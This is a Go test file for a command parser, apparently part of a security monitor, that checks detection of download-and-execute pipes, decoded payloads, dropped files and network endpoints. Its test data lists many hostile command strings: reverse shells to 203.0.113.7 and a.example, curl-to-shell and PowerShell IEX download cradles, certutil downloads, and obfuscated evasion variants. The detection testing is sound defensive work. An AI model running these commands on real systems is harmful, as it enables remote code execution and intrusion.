package command

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// TestPipes pins what flows into an interpreter. Only flags are compared: "f"
// for fetched, "d" for decoded.
func TestPipes(t *testing.T) {
	payload := base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
	for flags, scripts := range map[string][]string{
		"f": {
			"curl -s http://a.example/x | sh",
			"wget -O- http://a.example/x | bash",
			"wget -qO - a.example/x|/bin/bash -s -- arg",
			"wget -O /dev/stdout http://a.example/x | ash",
			"curl http://a.example/x | sudo -u root -E bash -",
			"curl http://a.example/x | env A=b nohup timeout 5 sh",
			"curl http://a.example/x | busybox sh",
			"curl http://a.example/x | bash -euo pipefail",
			"curl http://a.example/x | tee /tmp/log | sh",
			"curl http://a.example/x | tr -d '\\r' | sed 's/a/b/' | sh",
			"curl http://a.example/x | cat | head -n 5 | python3; true",
			"curl http://a.example/x |& sh",
			"(curl http://a.example/x || wget -qO- http://a.example/x) | sh",
			"{ curl http://a.example/x; } | { read line; sh; }",
			"if curl -f http://a.example/x; then true; fi | sh",
			"curl http://a.example/x | (sh)",
			"curl http://a.example/x | python3 -",
			"curl http://a.example/x | python3 /dev/stdin",
			"curl http://a.example/x | perl",
			"curl http://a.example/x | node - arg",
			"curl http://a.example/x | php",
			"curl http://a.example/x | ruby",
			"curl http://a.example/x | pwsh -NoProfile -Command -",
			"curl http://a.example/x | powershell -",
			"curl http://a.example/x | source /dev/stdin",
			"curl http://a.example/x | . /proc/self/fd/0",
			"curl http://a.example/x | sh -c sh",
			"curl http://a.example/x | sh -c 'cat | sh'",
			"curl http://a.example/x | sh -c 'eval \"$(cat)\"'",
			"curl http://a.example/x | xargs sh -c",
			"curl http://a.example/x | xargs -I{} sh -c '{}'",
			"curl http://a.example/x | python3 -c 'import sys; exec(sys.stdin.read())'",
			"curl http://a.example/x | perl -e 'eval join \"\",<STDIN>'",
			"bash <(curl -s http://a.example/x) arg",
			"source <(curl -s http://a.example/x)",
			". <(wget -qO- http://a.example/x | tr a b)",
			"python3 <(curl -s http://a.example/x)",
			"sh < <(curl -s http://a.example/x)",
			"sh -c \"$(curl -fsSL http://a.example/x)\" '' --unattended",
			"sh -c \"`curl -fsSL http://a.example/x`\"",
			"sh -c \"set -e; $(curl -fsSL http://a.example/x)\"",
			"python3 -c \"$(curl http://a.example/x)\"",
			"perl -e \"$(curl http://a.example/x)\"",
			"eval \"$(wget -qO- http://a.example/x)\"",
			"eval $(curl http://a.example/x)",
			"$(curl http://a.example/x)",
			"`curl http://a.example/x` arg",
			"sudo $(curl http://a.example/x)",
			"bash <<< \"$(curl http://a.example/x)\"",
			"bash <<EOF\n$(curl http://a.example/x)\nEOF\n",
			"x=$(curl http://a.example/x); echo \"$x\" | sh",
			"x=$(curl http://a.example/x); eval \"$x\"",
			"x=$(curl http://a.example/x); y=\"$x\"; sh -c \"${y}\"",
			"x=$(curl http://a.example/x); eval \"${x%%#*}\"",
			"get() { curl \"http://a.example/$1\"; }; get x | sh",
			"get() { curl http://a.example/x; }; run() { sh; }; get | run",
			"run() { sh; }; run; curl http://a.example/x | run",
			"curl http://a.example/x > >(sh)",
			"curl http://a.example/x | tee >(sh) > /dev/null",
			"nc a.example 4444 | sh",
			"nc a.example 4444 -e /bin/sh",
			"ncat --ssl a.example 443 --sh-exec 'bash -i'",
			"nc -c sh a.example 4444",
			"socat TCP:a.example:443 EXEC:'bash -li',pty,stderr",
			"sh < /dev/tcp/a.example/443",
			"cat < /dev/tcp/a.example/443 | sh",
			"ssh a.example cat x | sh",
			"openssl s_client -quiet -connect a.example:443 | sh",
			"python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://a.example/x\").read())'",
			"php -r 'eval(file_get_contents(\"http://a.example/x\"));'",
			"node -e 'require(\"https\").get({host:\"a.example\",port:8443},r=>{let b=\"\";r.on(\"data\",d=>b+=d).on(\"end\",()=>eval(b))})'",
			"python3 -c 'import socket;s=socket.create_connection((\"a.example\", 8443));exec(s.recv(65536))'",
			"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\"",
			"powershell \"iwr http://a.example/x -UseBasicParsing | iex\"",
			"pwsh -Command \"i\\`ex (irm http://a.example/x)\"",
			"nohup sh -c 'curl http://a.example/x | sh' > /dev/null 2>&1 &",
			"c\\url http://a.example/x | \"b\"'a's\\h",
			"\"cu\"\"rl\" http://a.example/x | $'\\x73\\150'",
			"wget${IFS}-qO-${IFS}http://a.example/x|sh",
			"{curl,-s,http://a.example/x}|{bash,-i}",
			"C=curl; S=sh; $C http://a.example/x | $S",
			"$(which curl) http://a.example/x | `command -v sh`",
			"${SHELLX:-sh} -c \"$(${DL:=curl} http://a.example/x)\"",
			"cmd /c \"curl http://a.example/x | powershell -\"",
			"curl http://a.example/x | sh\n)",
			"curl http://a.example/x | sh; echo it's",
			"echo it's; curl http://a.example/x | sh",
			"if true; then curl http://a.example/x | sh",
			"timeout 5 nohup nice -n 5 setsid env -u A B=c sudo -n -u x stdbuf -oL sh -c 'sh -c \"curl http://a.example/x | sh\"'",
			"flock -n /tmp/l -c 'curl http://a.example/x | sh'",
			"flock /tmp/l sh -c 'curl http://a.example/x | sh'",
			"su - nobody -c 'curl http://a.example/x | sh'",
			"su -c 'curl http://a.example/x | sh' nobody",
			"runuser -u nobody -- sh -c 'curl http://a.example/x | sh'",
			"script -qc 'curl http://a.example/x | sh' /dev/null",
			"watch -n 60 'curl http://a.example/x | sh'",
			"env -S 'sh -c' 'curl http://a.example/x | sh'",
			"find / -name x -exec sh -c 'curl http://a.example/x | sh' \\;",
			"chroot /mnt sh -c 'curl http://a.example/x | sh'",
			"nsenter -t 1 -m -u -i -n -p -- sh -c 'curl http://a.example/x | sh'",
			"nsenter --target 1 --mount sh -c 'curl http://a.example/x | sh'",
			"unshare -r sh -c 'curl http://a.example/x | sh'",
			"/lib64/ld-linux-x86-64.so.2 /bin/sh -c 'curl http://a.example/x | sh'",
		},
		"d": {
			"echo aGVsbG8= | base64 -d | sh",
			"echo aGVsbG8=|base64 --decode|bash",
			"base64 -di x.b64 | sh",
			"base64 -d <<< aGVsbG8= | sh",
			"base64 -D < x | sh",
			"printf %s aGVsbG8= | base64 -d | sh",
			"echo NBSWY3DP | base32 -d | sh",
			"echo 6c730a | xxd -r -p | sh",
			"openssl enc -base64 -d -in x | sh",
			"echo aGVsbG8K | openssl base64 -d -A | sh",
			"gunzip -c x.gz | sh",
			"zcat x.gz | python",
			"xz -dc x.xz | sh",
			"eval \"$(echo aGVsbG8= | base64 -d)\"",
			"bash -c \"$(base64 -d <<< aGVsbG8=)\"",
			"sh <(base64 -d x)",
			"x=$(base64 -d x); eval \"$x\"",
			"{echo,aGVsbG8=}|{base64,-d}|{bash,-i}",
			"python3 -c \"import base64;exec(base64.b64decode('aGVsbG8='))\"",
			"perl -MMIME::Base64 -e 'eval decode_base64(\"aGVsbG8=\")'",
			"powershell \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8=')))\"",
		},
		"df": {
			"curl http://a.example/x | base64 -d | sh",
			"curl http://a.example/x | gunzip -c | cat | head -n 5 | sh",
			"eval \"$(curl http://a.example/x | base64 -d)\"",
			"powershell \"iex ([Convert]::FromBase64String((irm http://a.example/x)))\"",
		},
		"": {
			"curl http://a.example/x | python3 -m json.tool",
			"curl http://a.example/x | python3 -c 'import sys,json; print(json.load(sys.stdin)[\"a\"])'",
			"curl http://a.example/x | perl -pe 's/a/b/'",
			"curl http://a.example/x | ruby -ne 'puts $_'",
			"curl http://a.example/x | node -e 'console.log(1)'",
			"curl http://a.example/x | php -r 'echo 1;'",
			"curl http://a.example/x | python3 filter.py",
			"curl http://a.example/x | sh filter.sh",
			"curl http://a.example/x | sh -c 'cat > /tmp/x'",
			"curl http://a.example/x | tar xz -C /opt",
			"curl http://a.example/x | jq .a",
			"curl http://a.example/x | tee /tmp/x",
			"curl -o /tmp/x http://a.example/x | sh",
			"curl http://a.example/x > /tmp/x | sh",
			"wget http://a.example/x | sh",
			"sh | curl http://a.example/x",
			"curl http://a.example/x; sh",
			"curl http://a.example/x && sh -c 'true'",
			"curl http://a.example/x & sh",
			"sh install.sh \"$(curl http://a.example/x)\"",
			"sh -c 'echo \"$1\"' x \"$(curl http://a.example/x)\"",
			"bash -c 'echo $(curl http://a.example/x)'",
			"echo \"$(curl http://a.example/x)\"",
			"x=$(curl http://a.example/x); echo \"$x\"",
			"x=$(curl http://a.example/x); kill $x",
			"docker ps | sh; base64 x | sh; gzip x | sh; openssl dgst -md5 x | sh; xxd x | sh",
			"base64 -d x > y; sh y",
			"echo 'curl http://a.example/x | sh'",
			"# curl http://a.example/x | sh",
			"echo curl | sh-like; nc -l 4444 | tar x",
			"python3 -c 'import urllib.request as u; print(u.urlopen(\"http://a.example/x\").read())'",
			"node -e 'require(\"child_process\").exec(\"ls\"); fetch(\"http://a.example\")'",
			"powershell \"Invoke-WebRequest http://a.example/x -OutFile x\"",
			"cat x | sh; cat < x | sh; sh < x",
			"find . -name curl | xargs sh",
		},
	} {
		for _, script := range scripts {
			c := Parse([]string{"bash", "-c", script}, "/bin/bash", "")
			got := ""
			if c.DecodePiped {
				got += "d"
			}
			if c.DownloadPiped {
				got += "f"
			}
			if got != flags {
				t.Errorf("%s\ngot %q, want %q: %s", script, got, flags, said(c))
			}
		}
	}
	// What can be worked out of a script is read like what stands there.
	for _, script := range []string{
		"echo " + payload + " | base64 -d | bash",
		"{echo," + payload + "}|{base64,-d}|{bash,-i}",
		"eval \"$(base64 -d <<< '" + payload + "')\"",
		"P=" + payload + "; printf '%s' \"$P\" | base64 -d | sh",
		"echo " + hex.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.7/4444")) + " | xxd -r -p | sh",
		"echo 'bash -i >& /dev/tcp/203.0.113.7/4444' | sh",
		"printf 'bash -i >& /dev/%s/203.0.113.7/%b' tcp '\\x34444' | sh",
		"sh <<'EOF'\nbash -i >& /dev/tcp/203.0.113.7/4444\nEOF\n",
		"cat <<EOF | sh\nbash -i >& /dev/tcp/203.0.113.7/4444\nEOF\n",
		"bash <<< 'exec 3<>/dev/tcp/203.0.113.7/4444'",
		"sh -c 'sh -i > /dev/tcp/$1/$2' x 203.0.113.7 4444",
		"eval eval eval 'sh -i > /dev/tcp/203.0.113.7/4444'",
		"r() { bash -i > /dev/tcp/$1/$2; }; r 203.0.113.7 4444",
	} {
		if c := Parse([]string{"sh", "-c", script}, "", ""); !strings.Contains(said(c), "@203.0.113.7:4444") {
			t.Errorf("%s\nnames no place: %s", script, said(c))
		}
	}
}

// TestCommands pins what is read of argument vectors that are no shell's.
func TestCommands(t *testing.T) {
	ps := func(s string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return base64.StdEncoding.EncodeToString(b)
	}
	for _, c := range []struct {
		args        []string
		exe, script string
		want        string
	}{
		{nil, "", "", ""},
		{nil, "/usr/bin/app", "", "app"},
		{[]string{}, "/bin/busybox", "", ""},
		{[]string{""}, "/usr/bin/app", "", "app"},
		{[]string{"/usr/bin/curl", "http://a.example/x"}, "/usr/bin/curl", "", "curl @http://a.example:80 ~downloads"},
		// Names: login shells, applets, links, renamed tools.
		{[]string{"-bash"}, "/bin/bash", "", "bash"},
		{[]string{"-bash", "-c", "curl a.example"}, "/bin/bash", "", "bash curl @http://a.example:80 ~downloads"},
		{[]string{"wget", "-qO-", "http://a.example/x"}, "/bin/busybox", "", "wget @http://a.example:80 ~downloads"},
		{[]string{"/bin/sh", "-c", "a"}, "/bin/busybox", "", "sh a"},
		{[]string{"busybox", "wget", "http://a.example/x"}, "/bin/busybox", "", "busybox wget @http://a.example:80 >x ~downloads"},
		{[]string{"busybox", "sh", "-c", "nc a.example 1"}, "/bin/busybox", "", "busybox sh nc @a.example:1"},
		{[]string{"busybox", "--install", "-s"}, "/bin/busybox", "", "busybox"},
		{[]string{"busybox"}, "/bin/busybox", "", "busybox"},
		{[]string{"/proc/self/exe", "init"}, "/usr/bin/runc", "", "runc"},
		{[]string{"/proc/self/exe"}, "/proc/self/exe", "", ""},
		{[]string{"/proc/self/fd/7", "x"}, "/memfd:x (deleted)", "", "memfd:x"},
		{[]string{"/tmp/x"}, "/tmp/x (deleted)", "", "x"},
		{[]string{"[kworker/0:1]", "-c", "curl a.example|sh"}, "/bin/bash", "", "0:1] bash curl sh @http://a.example:80 ~downloads ~fetched"},
		{[]string{"httpd", "http://a.example/x"}, "/usr/bin/wget", "", "httpd wget @http://a.example:80 >x ~downloads"},
		{[]string{"python3.12", "-c", "0"}, "/usr/bin/python3.12", "", "python3.12"},
		{[]string{"PowerShell.EXE"}, `C:\Windows\System32\powershell.exe`, "", "powershell"},
		// Scripts that the kernel started: the interpreter is exe.
		{[]string{"/bin/sh", "/entrypoint.sh", "http://a.example"}, "/bin/sh", "/entrypoint.sh", "sh entrypoint.sh @http://a.example:80 !/entrypoint.sh"},
		{[]string{"python3", "/app/run.py", "--url=http://a.example"}, "/usr/bin/python3", "", "python3 @http://a.example:80 !/app/run.py"},
		// Shells.
		{[]string{"sh"}, "", "", "sh"},
		{[]string{"sh", "-c"}, "", "", "sh"},
		{[]string{"sh", "-i"}, "", "", "sh"},
		{[]string{"sh", "-s", "http://a.example"}, "", "", "sh"},
		{[]string{"sh", "-exc", "a"}, "", "", "sh a"},
		{[]string{"bash", "-l", "-c", "a", "x", "y"}, "", "", "bash a"},
		{[]string{"bash", "-c", "-e", "a"}, "", "", "bash a"},
		{[]string{"bash", "-o", "pipefail", "-c", "a|b"}, "", "", "bash a b"},
		{[]string{"bash", "+e", "-O", "extglob", "-c", "a"}, "", "", "bash a"},
		{[]string{"bash", "--norc", "--rcfile", "/x", "-c", "a"}, "", "", "bash a"},
		{[]string{"bash", "--", "/tmp/x.sh", "-c", "a"}, "", "", "bash !/tmp/x.sh"},
		{[]string{"bash", "/tmp/x.sh", "-c", "a", "a.example:80"}, "", "", "bash @a.example:80 !/tmp/x.sh"},
		{[]string{"sh", "-c", "$0 \"$1\" $@", "curl", "http://a.example/x"}, "", "", "sh curl @http://a.example:80 ~downloads"},
		// Wrappers.
		{[]string{"timeout", "-s", "KILL", "5", "curl", "a.example"}, "", "", "timeout curl @http://a.example:80 ~downloads"},
		{[]string{"env", "-i", "A=b", "U=http://b.example", "curl", "a.example"}, "", "", "env curl @http://b.example:80 @http://a.example:80 ~downloads"},
		{[]string{"env", "A=b"}, "", "", "env"},
		{[]string{"nice", "-n", "19", "/tmp/x"}, "", "", "nice x !/tmp/x"},
		{[]string{"xargs", "-n", "1", "-P4", "curl", "-O"}, "", "", "xargs curl"},
		{[]string{"chroot", "--userspec=0:0", "/mnt", "/bin/sh", "-c", "a"}, "", "", "chroot sh a !/bin/sh"},
		{[]string{"chroot", "/mnt"}, "", "", "chroot"},
		{[]string{"nsenter", "-t", "1", "-m", "--", "sh"}, "", "", "nsenter sh"},
		{[]string{"nsenter", "-t1", "-a"}, "", "", "nsenter"},
		{[]string{"su", "-", "root"}, "", "", "su"},
		{[]string{"tini", "-g", "--", "app", "-c", "x"}, "", "", "tini app"},
		{[]string{"/lib/ld-musl-x86_64.so.1", "--library-path", "/l", "./x"}, "", "", "ld-musl-x86_64.so.1 x !./x"},
		{[]string{"sudo", "-u", "x", "-g", "y", "-E", "A=b", "sh", "-c", "a"}, "", "", "sudo sh a"},
		// Program text.
		{[]string{"python", "-c", "import urllib.request;urllib.request.urlopen('http://a.example/x')"}, "", "", "python @http://a.example:80"},
		{[]string{"python3", "-c", "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4242));pty.spawn('/bin/sh')"}, "", "", "python3 @203.0.113.7:4242"},
		{[]string{"perl", "-e", "use Socket;$i=\"203.0.113.7\";$p=4242;connect(S,sockaddr_in($p,inet_aton($i)))"}, "", "", "perl @203.0.113.7"},
		{[]string{"php", "-r", "$s=fsockopen(\"a.example\",4242);exec('sh <&3');"}, "", "", "php @a.example:4242"},
		{[]string{"ruby", "-rsocket", "-e", "TCPSocket.open('a.example', '4242')"}, "", "", "ruby @a.example:4242"},
		{[]string{"node", "-e", "require('https').get('https://a.example:8443/x'); open('file.txt', 12)"}, "", "", "node @https://a.example:8443"},
		{[]string{"php", "-f", "/tmp/x.php"}, "", "", "php !/tmp/x.php"},
		{[]string{"java", "-cp", "lib.jar", "-jar", "/tmp/x.jar", "a.example:1"}, "", "", "java @a.example:1 !/tmp/x.jar"},
		{[]string{"python3", "-m", "http.server", "8000"}, "", "", "python3"},
		// Windows.
		{[]string{"powershell.exe", "-NoP", "-W", "Hidden", "-Enc", ps("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')")}, "", "", "powershell @http://a.example:80 ~downloads ~fetched"},
		{[]string{"pwsh", "-e", ps("$c = New-Object Net.Sockets.TCPClient('203.0.113.7',4242)")}, "", "", "pwsh @203.0.113.7:4242"},
		{[]string{"powershell", "-ExecutionPolicy", "Bypass", "-File", `C:\t\x.ps1`, "http://a.example"}, "", "", `powershell @http://a.example:80 !C:\t\x.ps1`},
		{[]string{"powershell", "-c", "(New-Object Net.WebClient).DownloadFile('http://a.example/x.exe', 'C:\\t\\x.exe'); C:\\t\\x.exe"}, "", "", `powershell @http://a.example:80 >C:\t\x.exe ~downloads`},
		{[]string{"powershell", "Start-BitsTransfer -Source http://a.example/x -Destination C:\\t\\y.exe"}, "", "", `powershell @http://a.example:80 >C:\t\y.exe ~downloads`},
		{[]string{"powershell", "-enc", "no base64!"}, "", "", "powershell"},
		{[]string{`C:\Windows\System32\cmd.exe`, "/q", "/c", "certutil -urlcache -f http://a.example/x.exe x.exe && x.exe"}, "", "", "cmd certutil x @http://a.example:80 >x.exe ~downloads"},
		{[]string{"cmd", "/cwhoami&ipconfig"}, "", "", "cmd whoami ipconfig"},
		{[]string{"cmd.exe", "/k", "curl", "-o", "x.exe", "http://a.example/x", "&", "x.exe"}, "", "", "cmd curl x @http://a.example:80 >x.exe ~downloads"},
	} {
		same(t, fmt.Sprintf("%q %s %s", c.args, c.exe, c.script), Parse(c.args, c.exe, c.script), c.want)
	}
}

// TestDrops pins that running a file that the same script wrote is told from
// running another one, and from writing it afterwards.
func TestDrops(t *testing.T) {
	for script, want := range map[string]bool{
		"wget http://a.example/s -O /tmp/s; chmod +x /tmp/s; /tmp/s": true,
		"curl -o ./s http://a.example/s && sh s":                     true,
		"curl http://a.example/s > s; bash ./s":                      true,
		"wget http://a.example/s; . ./s":                             true,
		"wget http://a.example/s.py; nohup python3 s.py &":           true,
		"base64 -d x > /dev/shm/.y; setsid /dev/shm/.y":              true,
		"cat > /tmp/x.sh <<E\nid\nE\nsh /tmp/../tmp/x.sh":            true,
		"echo id | tee /tmp/x; timeout 5 sh /tmp/x":                  true,
		"D=/tmp; wget -P $D http://a.example/s; $D/s":                true,
		"wget http://a.example/x.jar; java -jar x.jar":               true,
		"/tmp/s; wget http://a.example/s -O /tmp/s":                  false,
		"wget http://a.example/s -O /tmp/s; chmod +x /tmp/s":         false,
		"chmod +x /tmp/s; /tmp/s":                                    false,
		"wget http://a.example/s -O /tmp/s; /tmp/t":                  false,
		"wget http://a.example/s -O /tmp/s; cat /tmp/s":              false,
		"echo x > /dev/null; sh /dev/null":                           false,
		"curl -o curl http://a.example/s; curl http://b.example":     false, // not "./curl"
	} {
		if c := Parse([]string{"sh", "-c", script}, "", ""); (c.Drops != "") != want {
			t.Errorf("%s: drops is %q: %s", script, c.Drops, said(c))
		}
	}
}

// TestParseLine pins how a line is read that a runtime printed without quotes.
func TestParseLine(t *testing.T) {
	for line, want := range map[string]string{
		"":        "",
		"   ":     "",
		"app -x":  "app",
		"/bin/sh": "sh",
		"sh -c":   "sh",
		"sh -c wget -q http://a.example/x && chmod +x x && ./x": "sh wget chmod x @http://a.example:80 >x !./x ~drops ~downloads",
		"/bin/sh  -c   curl http://a.example/x | sh":            "sh curl @http://a.example:80 ~downloads ~fetched",
		"sh -ec a; b":                      "sh a b",
		"bash -l -o pipefail -c a | b":     "bash a b",
		"sh -c sh -c a":                    "sh a", // as if quoted
		"busybox sh -c a; b":               "busybox sh a b",
		"env A=b timeout 5 sh -c a; b":     "env timeout sh a b",
		"sudo -u x sh -c a && b":           "sudo sh a b",
		"sh -c echo it's fine | base64; b": "sh echo base64 b",
		"python3 -c import os; os.system('curl http://a.example')": "python3 @http://a.example:80",
		"nc -e /bin/sh a.example 4444":                             "nc sh @a.example:4444 !/bin/sh ~fetched",
		"sh /entry.sh -c a; b":                                     "sh !/entry.sh",
		"su - root -c a; b":                                        "su a",
	} {
		c := ParseLine(line)
		same(t, line, c, want)
		if c.Text != line {
			t.Errorf("%q is shown as %q", line, c.Text)
		}
	}
}

// TestText pins how a command line is shown.
func TestText(t *testing.T) {
	long := strings.Repeat("\u20ac", MaxText)
	for _, c := range []struct {
		args []string
		want string
	}{
		{nil, ""},
		{[]string{"a", "", "b c"}, "a  b c"},
		{[]string{"a\x00b\x1b[2J"}, "a\x00b\x1b[2J"}, // escaped where it is printed
		{[]string{"a\xff", "\xc3"}, "a\ufffd \ufffd"},
		{[]string{strings.Repeat("x", MaxText-1)}, strings.Repeat("x", MaxText-1)},
		{[]string{strings.Repeat("x", MaxText+1)}, strings.Repeat("x", MaxText-3) + "\u2026"},
		{[]string{"xx", long}, "xx " + strings.Repeat("\u20ac", (MaxText-6)/3) + "\u2026"},
	} {
		if got := Parse(c.args, "", "").Text; got != c.want {
			t.Errorf("%.40q is shown as %d bytes, %.20q…%.20q, want %d", c.args, len(got), got, got[max(0, len(got)-20):], len(c.want))
		}
	}
}

// TestBoundsOfCommands pins that what a hostile line gives is bounded, and that
// its beginning is kept.
func TestBoundsOfCommands(t *testing.T) {
	var urls, programs, files []string
	for i := range 1000 {
		urls = append(urls, fmt.Sprintf("http://h%d.example/x", i))
		programs = append(programs, fmt.Sprintf("p%d", i))
		files = append(files, fmt.Sprintf("> f%d sh g%d", i, i))
	}
	for _, script := range []string{"curl " + strings.Join(urls, " "), strings.Join(programs, ";"), strings.Join(files, ";"),
		strings.Join(urls, "\n"), "echo '" + strings.Join(urls, "|") + "' '"} {
		c := Parse([]string{"sh", "-c", script}, "", "")
		for name, n := range map[string]int{"programs": len(c.Programs), "endpoints": len(c.Endpoints), "writes": len(c.Writes), "runs": len(c.Runs)} {
			if n > maxItems {
				t.Errorf("%d %s", n, name)
			}
		}
		if len(c.Programs)+len(c.Endpoints)+len(c.Writes)+len(c.Runs) < maxItems {
			t.Errorf("little is kept of %.40s: %s", script, said(c))
		}
	}
	c := Parse(append([]string{"curl"}, urls...), "", "")
	if len(c.Endpoints) != maxItems || c.Endpoints[0].Host != "h0.example" || !c.Downloads {
		t.Errorf("%d endpoints, the first %+v", len(c.Endpoints), c.Endpoints[0])
	}
	long := strings.Repeat("x", 5000)
	if c := Parse([]string{"sh", "-c", long + "; curl http://" + long + "/; a > " + long}, "", ""); said(c) != "sh curl a" {
		t.Errorf("long names: %.200s", said(c))
	}
}

// TestHostileScripts pins that scripts made to be hard to read still tell the
// place they name, in time that grows with their length.
func TestHostileScripts(t *testing.T) {
	many := func(n int, s string) string { return strings.Repeat(s, n) }
	const n = 128 << 10
	const tell = "\ncurl http://a.example/x | sh\n"
	for name, script := range map[string]string{
		"a long comment":           "#" + many(n-100, "x") + tell,
		"a long script":            tell + many(n, "true;"),
		"longer than an argument":  many(n, "#") + tell,
		"brackets":                 tell + many(n, "("),
		"closed brackets":          many(n/4, "(") + tell + many(n/4, ")"),
		"arithmetic brackets":      tell + many(n/3, "$(("),
		"blocks":                   many(n/4, "{ ") + tell + many(n/4, ";}"),
		"substitutions":            tell + many(n/3, "\"$("),
		"indexes":                  tell + many(n/2, "a["),
		"pipes":                    tell + many(n/4, "sh|") + "sh",
		"pipes of interpreters":    "curl http://a.example/x |" + many(n/8, "sh|") + "sh",
		"pipes in brackets":        many(200, "(") + "curl http://a.example/x" + many(200, "|sh)"),
		"lists":                    tell + many(n/8, "a && b || ") + "c",
		"statements that print":    tell + many(n/16, "echo aaaaaaaa;") + " sh",
		"quotes":                   tell + many(n/4, "\"a\"'b'"),
		"doubling variables":       tell + "a=xxxxxxxx;" + many(200, "a=$a$a;") + many(1000, "echo $a|sh;"),
		"doubling by appending":    tell + "a=x;" + many(500, "a+=$a;") + "eval $a",
		"doubling by substitution": tell + "a=x;" + many(300, "a=$(echo $a$a);") + "sh <<< $a",
		"many variables":           tell + func() (s string) { return strings.Join(slices.Collect(numbered(8000, "v%d=x")), ";") }(),
		"many functions":           tell + strings.Join(slices.Collect(numbered(6000, "f%d() { g; }; f%[1]d")), ";"),
		"functions in functions":   tell + many(n/8, "f() f() ") + "{ a; }",
		"times":                    tell + many(n/8, "time ") + "a",
		"braces":                   tell + many(40, "{a,b}") + " {1..999999999} " + many(1000, "{a,b,{c,d}}"),
		"one wide brace":           tell + "{" + many(n/4, "a,") + "b}",
		"a wide brace with ends":   tell + many(n/4, "x") + "{a,b,c,d}" + many(n/4, "y"),
		"scripts in scripts":       "sh -c '" + tell + "'" + many(50, "; eval 'eval \"eval a\"'"),
		"eval of itself":           tell + "a='eval \"$a\"'; eval \"$a\"",
		"a script that calls":      tell + "f() { f; f; f; }; f",
		"base64":                   tell + "echo " + many(n/2, "A") + " | base64 -d | sh",
		"tee to many":              tell + "echo " + many(n/2, "x") + "| tee " + many(2000, ">(sh) "),
		"printf":                   tell + "printf '" + many(n/4, "%s%b%%") + "' " + many(n/8, "a ") + "| sh; printf %999999999d 1",
		"xargs":                    tell + "echo " + many(n/4, "x") + " | xargs -I% echo " + many(n/8, "%"),
		"here-documents":           tell + many(500, "sh <<E\na\nE\n"),
		"an open here-document":    tell + many(n/8, "cat <<E "),
		"dots":                     tell + many(n/2, "1."),
		"colons":                   tell + many(n/2, "a:"),
		"slashes":                  tell + many(n/3, "://"),
		"schemes":                  tell + many(n/2, "a+"),
		"dashes":                   tell + many(n/2, "-") + " x",
		"backslashes":              tell + many(n/2, "\\"),
		"backquotes":               tell + many(n/2, "`"),
		"NUL":                      "\x00a" + tell + many(1000, "\x00"),
		"no UTF-8":                 "echo \xff\xfe" + tell + many(1000, "\xc3("),
		"control characters":       "\x1b[2J\r\x07" + tell,
		"wrappers":                 many(30, "nohup ") + "sh -c '" + tell + "'",
	} {
		c := Parse([]string{"bash", "-c", script}, "/bin/bash", "")
		if !strings.Contains(said(c), "@http://a.example:80") {
			t.Errorf("%s: names no place: %.200s", name, said(c))
		}
		if again := Parse([]string{"bash", "-c", script}, "/bin/bash", ""); !reflect.DeepEqual(again, c) {
			t.Errorf("%s: read again it says something else", name)
		}
	}
	args := append([]string{"app"}, slices.Collect(numbered(20_000, "a%d.example:443"))...)
	if c := Parse(args, "", ""); len(c.Endpoints) != maxItems {
		t.Errorf("%d endpoints of %d arguments", len(c.Endpoints), len(args))
	}
}

func numbered(n int, format string) func(func(string) bool) {
	return func(yield func(string) bool) {
		for i := range n {
			if !yield(fmt.Sprintf(format, i)) {
				return
			}
		}
	}
}
